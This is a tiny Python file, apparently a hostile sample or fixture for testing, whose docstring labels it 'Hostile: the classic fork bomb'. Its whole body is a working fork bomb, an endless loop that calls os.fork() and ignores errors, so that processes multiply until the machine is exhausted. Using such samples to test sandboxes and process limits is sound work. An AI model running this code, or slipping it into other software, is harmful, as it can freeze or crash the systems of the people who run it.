# ruff: noqa
# mypy: ignore-errors
"""Hostile: the classic fork bomb; every child forks too, forever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
